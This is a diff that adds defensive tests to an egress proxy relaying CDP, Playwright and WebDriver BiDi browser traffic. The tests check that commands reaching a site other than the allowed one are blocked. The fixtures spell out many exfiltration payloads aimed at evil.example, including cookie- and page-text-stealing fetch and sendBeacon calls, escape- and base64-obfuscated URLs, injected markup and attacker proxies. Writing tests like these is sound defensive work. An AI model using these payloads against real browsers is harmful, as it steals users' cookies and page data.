@@ -10,6 +10,7 @@ import t from 'tap';
 import { WebSocket } from 'ws';
 import { HttpProxyAgent } from 'http-proxy-agent';
 import { startTestAirlock } from './helpers.ts';
+import { cdpLoadsOf } from '../../describe/tunnel-sql.ts';
 import { startWsUpstream } from './websocket-helpers.ts';
 
 const FUZZ_SEED = process.env.AIRLOCK_FUZZ_SEED ? Number(process.env.AIRLOCK_FUZZ_SEED) : undefined;
@@ -206,4 +207,215 @@ t.test('control: CDP traffic that loads an allowed site or nothing goes on', asy
   ];
   t.same(await session(msgs, [], 'browser.example'), { code: 1000, replies: msgs.length }, 'all answered');
   t.ok(navigated().includes('https://docs.example/guide?page=2'), 'the browser went to the allowed page');
+});
+
+// Code and markup the remote browser runs (twentieth pass, left open by the nineteenth):
+// `Runtime.evaluate` of `fetch('https://evil.example/?d=…')`, Puppeteer's `page.evaluate` (a
+// `callFunctionOn` with the URL among its arguments), `DOM.setOuterHTML` of an image, a page set
+// whole, a script added to every new document, a style sheet: each was relayed undecided and the
+// browser carried the data to another site. Now every URL written in them is judged as its GET.
+const cdpCode: Record<string, (url: string) => string> = {
+  'Runtime.evaluate fetch': (url) => JSON.stringify(cdp('Runtime.evaluate', { expression: `fetch(${JSON.stringify(url)} + document.cookie)`, awaitPromise: true })),
+  'callFunctionOn, the URL an argument': (url) => JSON.stringify(cdp('Runtime.callFunctionOn', { functionDeclaration: '(u) => { new Image().src = u; }', arguments: [{ value: url }], executionContextId: 1 })),
+  'callFunctionOn, slashes escaped': (url) => JSON.stringify(cdp('Runtime.callFunctionOn', { functionDeclaration: `function () { navigator.sendBeacon('${url.replace(/\//g, '\\/')}', document.body.innerText); }`, objectId: 'o1' })),
+  'a hex escape in the scheme': (url) => JSON.stringify(cdp('Runtime.evaluate', { expression: `location.href = '${url.replace(/^h/i, '\\x68')}'` })),
+  'base64 under atob': (url) => JSON.stringify(cdp('Runtime.evaluate', { expression: `fetch(atob('${Buffer.from(url).toString('base64')}'))` })),
+  'a host assigned to location': (url) => JSON.stringify(cdp('Runtime.evaluate', { expression: `location.search = '?d=4111'; location.hostname = '${new URL(url).hostname}'` })),
+  'a WebSocket from the page': (url) => JSON.stringify(cdp('Runtime.evaluate', { expression: `new WebSocket('${url.replace(/^http/i, 'ws')}')` })),
+  'scheme-relative in innerHTML': (url) => JSON.stringify(cdp('Runtime.evaluate', { expression: `document.body.innerHTML = '<img src=${url.replace(/^https?:/i, '')}>'` })),
+  'DOM.setOuterHTML, references': (url) => JSON.stringify(cdp('DOM.setOuterHTML', { nodeId: 3, outerHTML: `<p>chart</p><img alt=x src="${url.replace(/\//g, '&#x2F;')}">` })),
+  'DOM.setOuterHTML, a refresh': (url) => JSON.stringify(cdp('DOM.setOuterHTML', { nodeId: 3, outerHTML: `<meta http-equiv="refresh" content="0;url=${url}">` })),
+  'Page.setDocumentContent, a script': (url) => JSON.stringify(cdp('Page.setDocumentContent', { frameId: 'F1', html: `<script>fetch("${url}")</script>` })),
+  'a script for every new document': (url) => JSON.stringify(cdp('Page.addScriptToEvaluateOnNewDocument', { source: `fetch("${url}")` })),
+  'a style sheet': (url) => JSON.stringify(cdp('CSS.setStyleSheetText', { styleSheetId: 's1', text: `body { background: url('${url}') }` })),
+  'inside Target.sendMessageToTarget': (url) => JSON.stringify(cdp('Target.sendMessageToTarget', { sessionId: 'S1', message: JSON.stringify(cdp('Runtime.evaluate', { expression: `fetch('${url}')` }, 9)) })),
+};
+const ranText = (): string => JSON.stringify(ran);
+
+t.test('CDP code or markup that names another site closes the socket and never reaches the browser, in every spelling', async (t) => {
+  const targets = ['https://evil.example/c?d=4111111111111111', 'http://4111.evil.example/p', 'https://docs.example.evil.example/?d=4111'];
+  await fc.assert(fc.asyncProperty(fc.constantFrom(...Object.keys(cdpCode)), fc.constantFrom(...targets), async (how, url) => {
+    const s = await session([JSON.stringify(cdp('Runtime.enable', {}, 0)), cdpCode[how]!(url)], [], 'browser.example');
+    return s.code === 1008 && !ranText().includes('4111');
+  }), { numRuns: FUZZ_RUNS, ...(FUZZ_SEED === undefined ? {} : { seed: FUZZ_SEED }), examples: Object.keys(cdpCode).map((k) => [k, 'https://evil.example/c?d=4111111111111111'] as [string, string]) });
+  t.notOk(ranText().includes('4111'), 'the browser was given no such code');
+});
+
+// The same reading over the spellings JavaScript gives a string (no socket: the reader alone):
+// each character of the URL as itself, `\xHH`, `\uHHHH` or `\u{H}`, a slash as `\/`, in any quote,
+// in code that loads it. Every spelling is read as the URL (or the command refused), never missed.
+const jsSpelling = fc.array(fc.constantFrom('plain', 'x', 'u', 'braced', 'slash'), { minLength: 60, maxLength: 60 });
+t.test('code naming another site in any JavaScript string spelling is read as that URL', async (t) => {
+  const url = 'https://evil.example/c?d=4111';
+  fc.assert(fc.property(jsSpelling, fc.constantFrom("'", '"', '`'), fc.constantFrom('fetch(%)', 'location.href = %', 'new Image().src = %', 'navigator.sendBeacon(%, document.body.innerText)'), fc.constantFrom('Runtime.evaluate', 'Runtime.callFunctionOn', 'Page.addScriptToEvaluateOnNewDocument'), (how, q, stmt, method) => {
+    const hex = (c: string, w: number) => c.charCodeAt(0).toString(16).padStart(w, '0');
+    const lit = [...url].map((c, i) => ({ plain: c, x: `\\x${hex(c, 2)}`, u: `\\u${hex(c, 4)}`, braced: `\\u{${hex(c, 1)}}`, slash: c === '/' ? '\\/' : c })[how[i]!]).join('');
+    const code = stmt.replace('%', `${q}${lit}${q}`);
+    const params = method === 'Runtime.callFunctionOn' ? { functionDeclaration: `function () { ${code}; }` } : method === 'Runtime.evaluate' ? { expression: code } : { source: code };
+    const r = cdpLoadsOf(JSON.stringify(cdp(method, params)));
+    if (r.refused || r.urls.some((u) => new URL(u).hostname === 'evil.example')) return true;
+    t.fail(`${code} was read as ${JSON.stringify(r)}`);
+    return false;
+  }), { numRuns: FUZZ_RUNS * 10, ...(FUZZ_SEED === undefined ? {} : { seed: FUZZ_SEED }) });
+  t.same(cdpLoadsOf(JSON.stringify(cdp('Runtime.evaluate', { expression: "document.title + '\\u0041'" }))), { urls: [] }, 'escapes naming no URL load nothing');
+});
+
+t.test('code that makes its host at run time, or names more URLs than are decided, closes the socket', async (t) => {
+  const srcset = [...Array.from({ length: 16 }, (_, i) => `https://docs.example/${i}.png ${i + 1}x`), 'https://evil.example/?d=4111 17x'].join(', ');
+  for (const msg of [
+    cdp('Runtime.evaluate', { expression: "fetch('https://' + atob(h) + '/?d=4111')" }),
+    cdp('DOM.setAttributeValue', { nodeId: 7, name: 'srcset', value: srcset }),
+  ]) t.equal((await session([JSON.stringify(msg)], [], 'browser.example')).code, 1008, String(msg.method));
+  t.notOk(ranText().includes('4111'), 'nothing reached the browser');
+});
+
+t.test('control: code and markup naming the allowed site or no site go on (Playwright\'s SVG namespace, XPath, a protocol test)', async (t) => {
+  const msgs = [
+    JSON.stringify(cdp('Runtime.evaluate', { expression: "document.createElementNS('http://www.w3.org/2000/svg', 'svg'); location.protocol === 'https:'" })),
+    JSON.stringify(cdp('Runtime.callFunctionOn', { functionDeclaration: "(s) => document.evaluate(s, document).iterateNext()", arguments: [{ value: '//div[@id="main"]//button' }], executionContextId: 1 })),
+    JSON.stringify(cdp('Runtime.evaluate', { expression: "fetch('https://docs.example/api/search?q=websocket').then((r) => r.json())", awaitPromise: true })),
+    JSON.stringify(cdp('DOM.setOuterHTML', { nodeId: 3, outerHTML: '<p class="note">Python 3.12 at 10:30, see <a href="/guide">the guide</a></p><img src="https://docs.example/logo.png">' })),
+    JSON.stringify(cdp('CSS.setStyleSheetText', { styleSheetId: 's1', text: 'body { color: red; background: url(/bg.png) } a:hover { color: blue }' })),
+  ];
+  t.same(await session(msgs, [], 'browser.example'), { code: 1000, replies: msgs.length }, 'all answered');
+});
+
+// What a command makes the browser take as the network's answer, or where it sends a context's
+// traffic (twentieth pass): an intercepted request answered `302 Location: https://evil.example/?d=…`
+// (in `responseHeaders` or base64 `binaryResponseHeaders`), answered with a page whose image is on
+// another site, continued as raw bytes, and a browser context whose proxy is the attacker's server.
+t.test('an intercepted request answered with a redirect or page elsewhere, a context proxied elsewhere, state or code for another site, closes the socket', async (t) => {
+  const b64 = (s: string): string => Buffer.from(s).toString('base64');
+  for (const msg of [
+    cdp('Fetch.fulfillRequest', { requestId: 'r1', responseCode: 302, responseHeaders: [{ name: 'Location', value: 'https://evil.example/?d=4111' }] }),
+    cdp('Fetch.fulfillRequest', { requestId: 'r1', responseCode: 302, binaryResponseHeaders: b64('Location\u0000https://evil.example/?d=4111') }),
+    cdp('Fetch.fulfillRequest', { requestId: 'r1', responseCode: 200, responseHeaders: [{ name: 'Content-Type', value: 'text/html' }], body: b64('<img src="//evil.example/?d=4111">') }),
+    cdp('Fetch.continueResponse', { requestId: 'r1', responseCode: 301, responseHeaders: [{ name: 'location', value: 'http://4111.evil.example/' }] }),
+    cdp('Network.continueInterceptedRequest', { interceptionId: 'i1', rawResponse: b64('HTTP/1.1 302 Found\r\nLocation: https://evil.example/?d=4111\r\n\r\n') }),
+    cdp('Network.continueInterceptedRequest', { interceptionId: 'i1', url: 'https://evil.example/?d=4111' }),
+    cdp('Target.createBrowserContext', { proxyServer: 'http://evil.example:8080', proxyBypassList: '' }),
+    cdp('Target.createBrowserContext', { proxyServer: 'socks5://evil.example:1080' }),
+    // State for another site, sent with whatever of it an allowed page embeds: a cookie, web storage.
+    cdp('Network.setCookie', { name: 'd', value: '4111', domain: '.evil.example', path: '/' }),
+    cdp('Network.setCookies', { cookies: [{ name: 'a', value: '1', url: 'https://docs.example/' }, { name: 'd', value: '4111', url: 'https://evil.example/' }] }),
+    cdp('Storage.setCookies', { cookies: [{ name: 'd', value: '4111', domain: 'evil.example' }] }),
+    cdp('DOMStorage.setDOMStorageItem', { storageId: { securityOrigin: 'https://evil.example', isLocalStorage: true }, key: 'd', value: '4111' }),
+    cdp('Storage.setSharedStorageEntry', { ownerOrigin: 'https://evil.example', key: 'd', value: '4111', ignoreIfPresent: false }),
+    // Code run at the next load or a breakpoint, a value handed to the page's code, a style.
+    cdp('Page.reload', { scriptToEvaluateOnLoad: "fetch('https://evil.example/?d=4111')" }),
+    cdp('Debugger.setBreakpointByUrl', { lineNumber: 1, url: 'https://docs.example/app.js', condition: "fetch('//evil.example/?d=4111'), false" }),
+    cdp('Debugger.setVariableValue', { scopeNumber: 0, variableName: 'endpoint', newValue: { value: 'https://evil.example/?d=4111' }, callFrameId: 'c1' }),
+    cdp('CSS.setEffectivePropertyValueForNode', { nodeId: 7, propertyName: 'background-image', value: 'url(https://evil.example/?d=4111)' }),
+  ]) t.equal((await session([JSON.stringify(msg)], [], 'browser.example')).code, 1008, `${String(msg.method)} ${JSON.stringify(msg.params).slice(0, 60)}`);
+  t.notOk(ranText().includes('evil'), 'nothing reached the browser');
+});
+
+t.test('control: an intercepted request answered or continued on the allowed site, a context without a proxy, go on', async (t) => {
+  const msgs = [
+    JSON.stringify(cdp('Fetch.fulfillRequest', { requestId: 'r1', responseCode: 302, responseHeaders: [{ name: 'Location', value: 'https://docs.example/guide' }] })),
+    JSON.stringify(cdp('Fetch.fulfillRequest', { requestId: 'r1', responseCode: 200, body: Buffer.from('{"ok":true,"items":[1,2]}').toString('base64') })),
+    JSON.stringify(cdp('Fetch.continueResponse', { requestId: 'r1' })),
+    // A JPEG whose XMP metadata names namespaces by URL: an image loads nothing.
+    JSON.stringify(cdp('Fetch.fulfillRequest', { requestId: 'r2', responseCode: 200, responseHeaders: [{ name: 'Content-Type', value: 'image/jpeg' }], body: Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe1, 0x00, 0x10]), Buffer.from('http://ns.adobe.com/xap/1.0/\u0000<x:xmpmeta xmlns:dc="http://purl.org/dc/elements/1.1/">'), Buffer.from([0xff, 0xd9])]).toString('base64') })),
+    JSON.stringify(cdp('Target.createBrowserContext', { disposeOnDetach: true })),
+    JSON.stringify(cdp('Network.setCookie', { name: 'theme', value: 'dark', domain: 'docs.example' })),
+    JSON.stringify(cdp('Debugger.setBreakpointByUrl', { lineNumber: 1, url: 'https://docs.example/app.js', condition: 'count > 3' })),
+  ];
+  t.same(await session(msgs, [], 'browser.example'), { code: 1000, replies: msgs.length }, 'all answered');
+});
+
+// Playwright's own protocol over a Playwright server's WebSocket (`chromium.connect(wsEndpoint)` to
+// `playwright run-server`, Browserless, a cloud grid; twentieth pass): `{id, guid, method, params,
+// metadata}` with methods such as `goto` and `evaluateExpression`, which name no CDP domain, so the
+// whole socket was relayed undecided. Each message is now read as the CDP commands it becomes.
+const pw = (guid: string, method: string, params: unknown, id = 3): string => JSON.stringify({ id, guid, method, params, metadata: { wallTime: 1765000000000, apiName: 'page.goto', internal: false } });
+const pwSpellings: Record<string, (url: string) => string> = {
+  'frame.goto': (url) => pw('frame@3c1f0d6a8f', 'goto', { url, waitUntil: 'load', timeout: 30000 }),
+  'page.evaluate with the URL an argument': (url) => pw('frame@3c1f0d6a8f', 'evaluateExpression', { expression: '(u) => fetch(u)', isFunction: true, arg: { value: { s: url }, handles: [] } }),
+  'page.waitForFunction': (url) => pw('frame@3c1f0d6a8f', 'waitForFunction', { expression: `() => fetch('${url}').then(() => true)`, isFunction: true, arg: { value: { v: 'undefined' }, handles: [] }, pollingInterval: 100 }),
+  'locator.evaluate (evalOnSelector)': (url) => pw('frame@3c1f0d6a8f', 'evalOnSelector', { selector: 'body', strict: true, expression: `(b, u) => { b.innerHTML = '<img src=' + u + '>'; }`, isFunction: true, arg: { value: { s: url }, handles: [] } }),
+  'a CDP session\'s send': (url) => pw('cdp-session@41', 'send', { method: 'Runtime.evaluate', params: { expression: `fetch('${url}')` } }),
+  'page.setContent': (url) => pw('frame@3c1f0d6a8f', 'setContent', { html: `<img src="${url}">`, waitUntil: 'load' }),
+  'context.addInitScript': (url) => pw('browser-context@9a2b', 'addInitScript', { source: `navigator.sendBeacon('${url}')` }),
+  'page.addScriptTag': (url) => pw('frame@3c1f0d6a8f', 'addScriptTag', { url }),
+  'route.continue elsewhere': (url) => pw('route@77aa', 'continue', { url, isFallback: false }),
+  'route.fulfill with a redirect': (url) => pw('route@77aa', 'fulfill', { status: 302, headers: [{ name: 'location', value: url }] }),
+  'request.get (the server fetches)': (url) => pw('request-context@5e', 'fetch', { url, method: 'GET', timeout: 30000 }),
+  'browser.newContext with a proxy': (url) => pw('browser@11', 'newContext', { proxy: { server: new URL(url).origin }, viewport: { width: 1280, height: 720 } }),
+  'context.addCookies': (url) => pw('browser-context@9a2b', 'addCookies', { cookies: [{ name: 'd', value: '4111', url }] }),
+};
+
+t.test('a Playwright protocol message that has the browser (or its server) reach another site closes the socket, in every spelling', async (t) => {
+  const targets = ['https://evil.example/c?d=4111111111111111', 'http://4111.evil.example/p'];
+  await fc.assert(fc.asyncProperty(fc.constantFrom(...Object.keys(pwSpellings)), fc.constantFrom(...targets), async (how, url) => {
+    const s = await session([pw('browser-type@1', 'initialize', {}, 1), pwSpellings[how]!(url)], [], 'browser.example');
+    return s.code === 1008 && !ranText().includes('evil');
+  }), { numRuns: FUZZ_RUNS, ...(FUZZ_SEED === undefined ? {} : { seed: FUZZ_SEED }), examples: Object.keys(pwSpellings).map((k) => [k, 'https://evil.example/c?d=4111111111111111'] as [string, string]) });
+  for (const msg of [
+    // A write the server would send.
+    pw('request-context@5e', 'fetch', { url: 'https://docs.example/api', method: 'POST', postData: Buffer.from('4111').toString('base64') }),
+    pw('frame@3c1f0d6a8f', 'goto', { url: '//evil.example/?d=4111' }),
+    pw('browser-type@1', 'launch', { args: ['--proxy-server=evil.example:8080'], headless: true }),
+    pw('browser@11', 'newContext', { proxy: { server: 'socks5://evil.example:1080' } }),
+  ]) t.equal((await session([msg], [], 'browser.example')).code, 1008, msg.slice(0, 90));
+  t.notOk(ranText().includes('evil'), 'nothing of another site reached the server');
+});
+
+t.test('control: Playwright traffic on the allowed site goes on (a goto, a relative goto, evaluate, a GET through the server, a context with a base URL)', async (t) => {
+  const msgs = [
+    pw('playwright@1', 'initialize', { sdkLanguage: 'javascript' }, 1),
+    pw('browser@11', 'newContext', { baseURL: 'https://docs.example/', viewport: { width: 1280, height: 720 } }),
+    pw('frame@3c1f0d6a8f', 'goto', { url: 'https://docs.example/guide?page=2', waitUntil: 'load' }),
+    pw('frame@3c1f0d6a8f', 'goto', { url: '/guide/intro', waitUntil: 'load' }),
+    pw('frame@3c1f0d6a8f', 'evaluateExpression', { expression: '() => document.title', isFunction: true, arg: { value: { v: 'undefined' }, handles: [] } }),
+    pw('request-context@5e', 'fetch', { url: 'https://docs.example/api/search', params: [{ name: 'q', value: 'playwright' }], method: 'GET' }),
+    pw('frame@3c1f0d6a8f', 'click', { selector: 'internal:role=button[name="Next"i]', strict: true }),
+  ];
+  t.same(await session(msgs, [], 'browser.example'), { code: 1000, replies: msgs.length }, 'all answered');
+  // The URL judged is the one the server sends: its query parameters added (a served link with
+  // `d=<data>` added is another link to the browse rule).
+  t.ok(a.records.some((r) => r.method === 'GET' && r.url === 'https://docs.example/api/search?q=playwright'), 'the fetch is judged with its parameters');
+});
+
+// WebDriver BiDi over a browser's WebSocket (Selenium 4's `webSocketUrl`, Firefox, Puppeteer with
+// Firefox; twentieth pass): `module.command` in lower case named no CDP domain, so a navigation,
+// a script, a made-up answer, a cookie or a proxy for another site was relayed undecided.
+const bidi = (method: string, params: unknown, id = 2): string => JSON.stringify({ id, method, params });
+const bidiSpellings: Record<string, (url: string) => string> = {
+  'browsingContext.navigate': (url) => bidi('browsingContext.navigate', { context: 'ctx-1', url, wait: 'complete' }),
+  'script.evaluate': (url) => bidi('script.evaluate', { expression: `fetch('${url}')`, target: { context: 'ctx-1' }, awaitPromise: true }),
+  'script.callFunction, the URL an argument': (url) => bidi('script.callFunction', { functionDeclaration: '(u) => { new Image().src = u; }', arguments: [{ type: 'string', value: url }], target: { context: 'ctx-1' }, awaitPromise: false }),
+  'script.addPreloadScript': (url) => bidi('script.addPreloadScript', { functionDeclaration: `() => navigator.sendBeacon('${url}')` }),
+  'network.continueRequest elsewhere': (url) => bidi('network.continueRequest', { request: 'req-1', url }),
+  'network.provideResponse with a redirect': (url) => bidi('network.provideResponse', { request: 'req-1', statusCode: 302, headers: [{ name: 'Location', value: { type: 'string', value: url } }] }),
+  'network.provideResponse with a page (base64)': (url) => bidi('network.provideResponse', { request: 'req-1', statusCode: 200, body: { type: 'base64', value: Buffer.from(`<img src="${url}">`).toString('base64') } }),
+  'goog:cdp.sendCommand (chromedriver)': (url) => bidi('goog:cdp.sendCommand', { method: 'Page.navigate', params: { url }, session: 'S1' }),
+  'storage.setCookie': (url) => bidi('storage.setCookie', { cookie: { name: 'd', value: { type: 'string', value: '4111' }, domain: new URL(url).hostname } }),
+  'browser.createUserContext with a proxy': (url) => bidi('browser.createUserContext', { proxy: { proxyType: 'manual', httpProxy: `${new URL(url).hostname}:8080`, sslProxy: `${new URL(url).hostname}:8080` } }),
+};
+
+t.test('a WebDriver BiDi command that has the browser reach another site closes the socket, in every spelling', async (t) => {
+  const targets = ['https://evil.example/c?d=4111111111111111', 'http://4111.evil.example/p'];
+  await fc.assert(fc.asyncProperty(fc.constantFrom(...Object.keys(bidiSpellings)), fc.constantFrom(...targets), async (how, url) => {
+    const s = await session([bidi('session.status', {}, 1), bidiSpellings[how]!(url)], [], 'browser.example');
+    return s.code === 1008 && !ranText().includes('evil');
+  }), { numRuns: FUZZ_RUNS, ...(FUZZ_SEED === undefined ? {} : { seed: FUZZ_SEED }), examples: Object.keys(bidiSpellings).map((k) => [k, 'https://evil.example/c?d=4111111111111111'] as [string, string]) });
+  for (const msg of [
+    bidi('session.new', { capabilities: { alwaysMatch: { proxy: { proxyType: 'pac', proxyAutoconfigUrl: 'https://evil.example/p.pac?d=4111' } } } }),
+    bidi('webExtension.install', { extensionData: { type: 'base64', value: 'UEsDBA==' } }),
+  ]) t.equal((await session([msg], [], 'browser.example')).code, 1008, msg.slice(0, 80));
+  t.notOk(ranText().includes('evil'), 'nothing of another site reached the browser');
+});
+
+t.test('control: BiDi traffic on the allowed site goes on', async (t) => {
+  const msgs = [
+    bidi('session.status', {}, 1),
+    bidi('browsingContext.getTree', {}),
+    bidi('browsingContext.navigate', { context: 'ctx-1', url: 'https://docs.example/guide', wait: 'complete' }),
+    bidi('script.evaluate', { expression: 'document.title', target: { context: 'ctx-1' }, awaitPromise: false }),
+    bidi('script.callFunction', { functionDeclaration: '(s) => document.querySelector(s).click()', arguments: [{ type: 'string', value: 'a.next' }], target: { context: 'ctx-1' }, awaitPromise: false }),
+    bidi('storage.setCookie', { cookie: { name: 'theme', value: { type: 'string', value: 'dark' }, domain: 'docs.example' } }),
+    bidi('session.subscribe', { events: ['network.beforeRequestSent'] }),
+  ];
+  t.same(await session(msgs, [], 'browser.example'), { code: 1000, replies: msgs.length }, 'all answered');
 });
